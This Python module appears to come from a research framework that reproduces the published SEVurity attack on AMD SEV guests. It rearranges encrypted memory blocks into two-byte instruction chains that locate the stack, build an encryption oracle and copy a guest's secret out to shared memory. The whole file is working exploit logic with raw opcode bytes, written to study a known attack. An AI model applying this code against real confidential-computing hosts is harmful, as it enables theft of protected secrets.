"""A10, case 3: code of two-byte instructions, where the victim stores nothing that the host may choose."""

from __future__ import annotations

import struct
from collections.abc import Callable
from typing import Final

from cbit.attacks.experiments.known_constants import DEFENCES, EXPECT, PARAMETERS, SETUP, SETUPS, kernel
from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.corpus import Corpus, difference, xor
from cbit.attacks.lab.guest import HLT, NPF, SECRET, SHARED, VIEW, Program
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Stand
from cbit.attacks.lab.tools import Thwarted, gpa_of
from cbit.attacks.power import Power
from cbit.cpu.engine.control_block import Exit
from cbit.spec.address import BLOCK, PAGE

ROUTINE, KERNEL = 0x12000, 0x200000
_ROOM: Final = 2 * PAGE  # of the routine
_SECRET_SIZE: Final = 64
MARK = SECRET + _SECRET_SIZE  #: where chosen bytes are to appear
CHOSEN = 0x5EC0DE42

#: Calls a long routine again and again, and never touches its secret.
CALLER = f"""
again:
    call routine
    jmp again
.org {ROUTINE - 0x10000:#x}, 0x90
routine:
    .fill {_ROOM - 2}, 1, 0x90
    hlt
    ret
"""
_SKIP: Final = {b"\xeb\x1c": 1, b"\xeb\x3c": 2}  # to the end of the next block but 0, or but 2
_XOR: Final = {"esi": b"\x31\xf6", "edi": b"\x31\xff", "ecx": b"\x31\xc9"}
_SHL: Final = {"esi": b"\xd1\xe6", "edi": b"\xd1\xe7", "ecx": b"\xd1\xe1"}
_INC: Final = {"esi": b"\xff\xc6", "edi": b"\xff\xc7", "ecx": b"\xff\xc1"}
_PUSH_SYNC, _PUSH, _POP, _POP_RET = b"\x57\xf4", b"\x57\x90", b"\x5f\x90", b"\x5f\xc3"
_WRITE, _WALK = 1 << 1, 1 << 33  # in EXITINFO1
_COPY, _SYNC = b"\xf3\xa4", b"\xf4\x90"


def caller(stand: Stand) -> Scene:
    """Start a victim with a large public image and a routine that is called again and again."""
    secret = stand.entropy.draw(_SECRET_SIZE)
    known = kernel(stand)
    program = Program(CALLER, data=((KERNEL, known),), size=KERNEL + len(known))
    guest = stand.guest(program, secret=secret)
    guest.until_idle()
    facts = Facts({"kernel_at": KERNEL, "kernel": known, "routine": ROUTINE})
    return Scene((secret,), facts, guest, planted=guest.peek(SECRET, _SECRET_SIZE) == secret)


def _number(register: str, value: int) -> list[bytes]:
    """Build a number in a register, bit by bit from the highest on: one round for each bit below it."""
    built = [_XOR[register]]
    for bit in f"{value:b}":
        built += [_SHL[register], _INC[register]] if bit == "1" else [_SHL[register]]
    del built[1]  # zero need not be shifted
    return built


@attack(
    title="SEVurity: code out of two bytes a block",
    experiment="E6",
    paper="Wilke et al., SEVurity, S&P 2020 (attacks.md A10, case 3)",
    holds={
        Power.MAP_MEMORY,
        Power.FLUSH_CACHES,
        Power.EDIT_NESTED_TABLES,
        Power.TAKE_EXITS,
        Power.CLIENT,
    },
    expect=EXPECT,
    defences=DEFENCES,
    victim=caller,
    setup=SETUP,
    setups=SETUPS,
    parameters=PARAMETERS,
)
def code_chain(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Write a program of two-byte instructions over a routine, out of moved blocks; no answer is emulated.

    1. Every second block ends with an instruction, the others begin with a jump to the end of the next one:
       two chosen bytes in a block are enough for both.
    2. ``push rdi; hlt``: the page that faults at the push is the stack, and the block of it whose ciphertext
       changes is where rSP points.  Neither registers nor emulated results are used.
    3. ``xor``, ``inc`` and ``shl`` build any number in edi, ``push`` encrypts it: an oracle for four bytes.
    4. The same instructions build two addresses and a length, and ``rep movsb`` copies the secret out.
    """
    writer = _Writer(hands, facts)
    stack = _find_stack(hands, writer, log)
    number = _number("edi", CHOSEN)
    # The return address fills half a block: one push for the other half, two for a block of their own.
    writer.ready([*number, _PUSH, _PUSH, _PUSH_SYNC, _POP, _POP, _POP_RET])
    writer.go()
    oracle = stack - BLOCK
    cells = hands.memory.read(oracle, BLOCK)
    log.step(f"{len(number)} instructions and three pushes: the ciphertext of {CHOSEN:#x}, twice", cells)
    log.figure(
        "rounds for a number of 32 bits",
        CHOSEN.bit_length() - 1,
        published="at most 31",
        source="SEVurity §VI-C (attacks.md A10 step 7)",
    )
    mark = hands.memory.spa(MARK)
    hands.memory.write(mark, xor(cells, difference(oracle, mark)))
    out = VIEW + SHARED + PAGE
    copied = _SECRET_SIZE + BLOCK
    program = [*_number("esi", SECRET), *_number("edi", out), *_number("ecx", copied), _COPY, _SYNC]
    writer.ready(program)
    writer.go()
    answer = hands.client.answer(copied)
    log.step(f"{len(program)} instructions later the secret is in shared memory", answer)
    known = xor(answer[_SECRET_SIZE:], difference(oracle, mark))
    log.step("behind it the block that was chosen, corrected by the difference of the tweaks", known)
    if known != struct.pack("<2Q", CHOSEN, CHOSEN):
        raise Thwarted("the chosen block decrypts to something else")
    log.figure(
        "useful bytes of every second block",
        2,
        "bytes",
        published="2",
        source="SEVurity §IV-D, Fig. 3 (attacks.md A10 step 4)",
    )
    log.figure("blocks moved", writer.moved, published="no figure")
    return answer


class _Writer:
    """Writes programs over the routine, and runs them.

    Mutable.

    Attributes:
        moved: how many blocks it has put in place.
    """

    def __init__(self, hands: Hands, facts: Facts) -> None:
        self._hands, self._start = hands, facts.number("routine")
        kernel = facts.data("kernel")
        self._corpus = Corpus(hands.memory, facts.number("kernel_at"), kernel, xe=False)
        self._running = False
        self.moved = 0

    def _write(self, program: list[bytes]) -> None:
        self._hands.caches.write_back()
        at, left = self._start, list(program)
        while left:
            if at > self._start + _ROOM - 4 * BLOCK:
                raise Thwarted("the routine has no room for the program")
            for jump, blocks in _SKIP.items():
                end = at + (2 * blocks - 1) * BLOCK
                if self._put(jump, at, 0) and self._put(left[0], end, BLOCK - 2):
                    left.pop(0)
                    at = end + BLOCK
                    break
            else:
                raise Thwarted(f"no block of the known plaintext serves at {at:#x}")
        self._hands.caches.write_back()

    def _put(self, wanted: bytes, gpa: int, at: int) -> bool:
        target = self._hands.memory.spa(gpa)
        found = self._corpus.find(wanted, target, at)
        if found is not None:
            self._hands.memory.write(target, self._corpus.ciphertext_for(found, target))
            self.moved += 1
        return found is not None

    def ready(self, program: list[bytes]) -> None:
        """Put a program in place, its beginning a `hlt`, and bring the victim there.

        The victim stands in that `hlt` whenever its code is replaced, so all programs begin alike.
        """
        if self._running:
            self._hands.victim.skip(1)
            self._hands.victim.until(HLT)
        self._write([_SYNC, *program])
        if not self._running:
            self._hands.victim.until(HLT)
        self._running = True

    def go(self, handle: Callable[[Exit], bool] = lambda _: False) -> None:
        """Let the victim run from there to its next `hlt`."""
        self._hands.victim.skip(1)
        self._hands.victim.until(HLT, handle=handle)
        self._hands.caches.write_back()


def _find_stack(hands: Hands, writer: _Writer, log: Log) -> int:
    """Let the victim push: its stack faults, and a block of it changes.  Returns that block's address."""
    writer.ready([_INC["edi"], _PUSH_SYNC, _POP_RET])  # not the zero that may be there already
    hands.caches.write_back()
    pages = [gpa for gpa in hands.tables.pages() if gpa < KERNEL]
    before = {gpa: hands.memory.read(hands.memory.spa(gpa), PAGE) for gpa in pages}
    hands.tables.unmap(*pages)
    touched: list[int] = []

    def note(exit: Exit) -> bool:
        if exit.code != NPF:
            return False
        gpa = gpa_of(exit.info_2) & -PAGE
        if exit.info_1 & _WRITE and not exit.info_1 & _WALK:
            touched.append(gpa)
        hands.tables.home(gpa)
        return True

    writer.go(note)
    for gpa in pages:
        hands.tables.home(gpa)
    for gpa in dict.fromkeys(touched):
        after = hands.memory.read(hands.memory.spa(gpa), PAGE)
        changed = [
            at for at in range(0, PAGE, BLOCK) if after[at : at + BLOCK] != before[gpa][at : at + BLOCK]
        ]
        if changed:
            log.step(f"`push rdi` faults on {gpa:#x}, and a block changes at {changed[-1]:#x} there")
            return hands.memory.spa(gpa) + changed[-1]
    raise Thwarted("no page was pushed to")
